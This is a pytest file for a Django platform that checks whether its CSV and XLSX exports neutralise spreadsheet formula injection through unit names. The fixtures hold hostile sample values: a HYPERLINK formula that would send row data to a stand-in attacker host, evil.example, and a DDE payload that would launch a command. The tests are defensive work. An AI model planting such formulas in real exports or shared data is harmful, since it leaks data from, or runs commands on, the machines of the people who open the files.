"""A unit named like a formula reaches every spreadsheet the platform writes as inert text.

Anyone can register a unit, so ``=HYPERLINK(...)`` is a name an attacker can choose; opened in
Excel or WPS, a live formula would send the row beside it to the attacker's site.
"""

import csv
import io

import pytest
from auditlog.models import LogEntry
from django.utils import timezone
from openpyxl import load_workbook

from linkage.models import Notice
from linkage.services import delivery
from portal.spreadsheets import neutralise
from tests.factories import UnitFactory
from tests.publication_support import publish_one as publish
from tests.publication_support import publish_results

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


@pytest.fixture(autouse=True)
def no_broker(monkeypatch):
    monkeypatch.setattr("portal.queue.send_tasks", lambda calls: True)


@pytest.fixture
def hostile_unit(world):
    return UnitFactory(name=FORMULA, area=world.unit.area)


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_inert_csv(content: bytes) -> None:
    cells = csv_cells(content)
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_text_cell_in_xlsx(content: bytes) -> None:
    cells = xlsx_cells(content)
    hostile = [cell for cell in cells if cell.value == FORMULA]
    assert hostile and all(cell.data_type == "s" for cell in hostile)
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize(
    "value",
    ["=1+2", "+1+A1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "-2+3+cmd|' /C calc'!A0"],
)
def test_every_formula_trigger_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.5", "42", "新郑市", "", None, 3])
def test_numbers_and_plain_text_are_kept(value):
    assert neutralise(value) == value


def test_unit_exports_write_a_formula_name_as_text(hostile_unit, client_as):
    client = client_as("bureau")
    assert_inert_csv(client.get("/units/export.csv").content)
    assert_text_cell_in_xlsx(client.get("/units/export.xlsx").content)


def test_audit_export_writes_a_formula_name_as_text(hostile_unit, client_as):
    assert LogEntry.objects.filter(object_repr=FORMULA).exists()
    assert_inert_csv(client_as("auditadmin").get("/audit/export.csv").content)


def test_linkage_report_writes_a_formula_name_as_text(hostile_unit, world, client_as):
    publish_results([(hostile_unit, 5)], year=2025)
    delivery.deliver_inbox(list(Notice.objects.values_list("pk", flat=True)))
    today = timezone.localdate().isoformat()
    query = {"date_from": today, "date_to": today, "group_by": "department", "export": "xlsx"}
    content = client_as("bureau").get("/linkage/reports/", query).content
    assert_text_cell_in_xlsx(content)


def test_public_ratings_csv_writes_a_formula_name_as_text(hostile_unit, client):
    publish(hostile_unit, 2025, "90.0")
    response = client.get("/api/v1/ratings.csv")
    assert_inert_csv(b"".join(response.streaming_content))
